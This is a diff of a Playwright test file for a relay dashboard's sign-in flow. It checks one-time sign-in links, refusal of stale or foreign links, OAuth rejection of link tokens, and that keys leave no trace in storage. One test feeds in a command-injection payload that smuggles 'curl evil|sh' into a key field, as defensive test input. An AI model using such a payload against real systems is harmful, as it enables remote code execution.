@@ -1,10 +1,10 @@
 /** Signing in to the board: by the consent page, by the link of npm start, and when a sign-in ends. */
 import type { Browser } from 'playwright-core'
 import { afterAll, beforeAll, expect, test } from 'vitest'
-import { go, interceptCalls, openBoard } from '../../support/board.ts'
+import { go, interceptCalls, linkOf, openBoard } from '../../support/board.ts'
 import { openBrowser } from '../../support/browser.ts'
-import { createOAuthClient } from '../../support/oauth.ts'
-import { createTestRelay } from '../../support/relay.ts'
+import { callWith, createOAuthClient } from '../../support/oauth.ts'
+import { createTestRelay, type TestRelay } from '../../support/relay.ts'
 
 let browser: Browser
 beforeAll(async () => {
@@ -38,26 +38,69 @@ test('a person signs in with the key and comes back to the place they opened', a
   expect(complaints).toEqual([])
 })
 
-test('a link with the key signs in, and the key is nowhere afterwards', async () => {
+test('a link signs in once, and what stays of it in the browser is worth nothing', async () => {
   await using relay = await createTestRelay()
-  await using board = await openBoard(browser, relay)
-  const { page } = board
-  expect(page.url()).not.toContain(relay.key)
+  const link = await linkOf(relay)
+  expect(link).not.toContain(relay.key)
+  const context = await browser.newContext()
+  const page = await context.newPage()
+  await page.goto(link)
+  await page.locator('.app').waitFor()
+  expect(page.url()).toBe(`${relay.url}/board/`)
+  expect(await page.evaluate('history.length')).toBeLessThanOrEqual(2)
   const kept = await page.evaluate('JSON.stringify([{ ...sessionStorage }, { ...localStorage }])')
   expect(kept).toContain('access')
-  expect(kept).not.toContain(relay.key)
-  expect(JSON.stringify(relay.logs)).not.toContain(relay.key)
-  expect(await page.evaluate('history.length')).toBeLessThanOrEqual(2)
+  expect(kept).not.toContain(link.split('=')[1])
+  expect(JSON.stringify(relay.logs)).not.toContain(link.split('=')[1])
+  // In this tab it is of no interest; in another browser it opens nothing.
+  await page.goto(link)
+  await page.reload()
+  await page.locator('.app').waitFor()
+  const other = await browser.newContext()
+  const thief = await other.newPage()
+  await thief.goto(link)
+  await thief.getByText('The link has already been used').waitFor()
+  await thief.getByRole('button', { name: 'Sign in' }).waitFor()
+  expect(await thief.evaluate('sessionStorage.length')).toBe(0)
+  await context.close()
+  await other.close()
 })
 
-test('a link with a wrong key says so and signs nobody in', async () => {
+test.each([
+  ['an old', (relay: TestRelay) => linkOf(relay, Date.now() - 601_000)],
+  ['a made-up', async (relay: TestRelay) => `${relay.url}/board/#link=${'x'.repeat(43)}`],
+  [
+    "another relay's",
+    async (relay: TestRelay) => {
+      const { href } = new URL(
+        await linkOf({ ...relay, key: 'another key of 32 characters or more' }),
+      )
+      return href
+    },
+  ],
+])('%s link says so, and the key still opens the board', async (_, make) => {
   await using relay = await createTestRelay()
   await using board = await openBoard(browser, relay, { signedOut: true })
   const { page } = board
   await page.goto('about:blank')
-  await page.goto(`${relay.url}/board/#key=${'x'.repeat(43)}`)
-  await page.getByText('the key of this relay has changed').waitFor()
-  await page.getByRole('button', { name: 'Sign in' }).waitFor()
+  await page.goto(await make(relay))
+  await page.getByText('The link is no longer valid').waitFor()
+  await page.getByRole('button', { name: 'Sign in' }).click()
+  await page.getByLabel('Key of this relay').fill(relay.key)
+  await page.getByRole('button', { name: 'Allow' }).click()
+  await page.locator('.app').waitFor()
+})
+
+test('a link is good for the board only', async () => {
+  await using relay = await createTestRelay()
+  const [, link = ''] = (await linkOf(relay)).split('#link=')
+  const client = await createOAuthClient(relay)
+  const answer = await client.decide({ link, api_key: undefined })
+  expect([answer.status, answer.headers.get('location')]).toEqual([403, null])
+  const login = await client.decide({ link, api_key: 'x' })
+  expect([login.status, login.headers.get('location')]).toEqual([403, null])
+  expect((await callWith(relay, link)).status).toBe(401)
+  expect((await client.exchange(link)).body.error).toBe('invalid_grant')
 })
 
 test('after cancelling, the board says so and asks again', async () => {
@@ -170,16 +213,12 @@ test('no other client can pass for the person, whatever it calls itself', async 
   await go(page, '#/')
 })
 
-test('a link cannot put anything but the key into the commands to copy', async () => {
+test('only what looks like a key is put into the commands to copy', async () => {
   await using relay = await createTestRelay()
-  await using board = await openBoard(browser, relay)
+  await using board = await openBoard(browser, relay, { at: '#/connect' })
   const { page } = board
   const payload = 'abcd";curl evil|sh;"wxyz'
-  await page.evaluate(`location.hash = '#key=' + encodeURIComponent(${JSON.stringify(payload)})`)
-  await page.locator('.app').waitFor()
-  await go(page, '#/connect')
   await page.getByText('YOUR_RELAY_API_KEY').first().waitFor()
-  expect(await page.getByLabel('Key, to fill in below').inputValue()).toBe('')
   await page.getByLabel('Key, to fill in below').fill(payload)
   expect(await page.locator('pre').first().innerText()).toContain('YOUR_RELAY_API_KEY')
   expect(page.url()).not.toContain('curl')
@@ -216,7 +255,7 @@ test('where storage is blocked the board says what it needs, and the link of npm
   await page.reload()
   await page.getByText('Allow site data for this address').waitFor()
   await page.goto('about:blank')
-  await page.goto(`${relay.url}/board/#key=${relay.key}`)
+  await page.goto(await linkOf(relay))
   await page.getByText('Connect your first session').waitFor()
   expect(complaints).toEqual([])
 })
